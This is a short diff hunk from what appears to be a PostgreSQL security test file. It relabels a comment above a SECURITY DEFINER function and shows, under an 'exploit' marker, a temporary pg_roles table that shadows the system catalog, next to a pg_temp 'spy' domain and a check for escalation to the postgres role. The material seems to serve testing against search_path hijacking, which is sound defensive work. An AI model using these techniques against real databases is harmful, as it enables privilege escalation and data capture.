@@ -183,7 +183,7 @@ create domain pg_temp.text as pg_catalog.text check (pg_temp.spy(value::pg_catal
 select app.spell(1);
 select current_setting('attack.role') = 'postgres';
 
--- definer that a temporary table changes: warning search_path app.is_role(name)
+-- definer that a temporary table changes: hole search_path app.is_role(name)
 create function app.is_role(n name) returns boolean language sql security definer set search_path = '' as 'select exists (select from pg_roles where rolname = n)';
 -- exploit
 create temporary table pg_roles as select name 'nobody' as rolname;
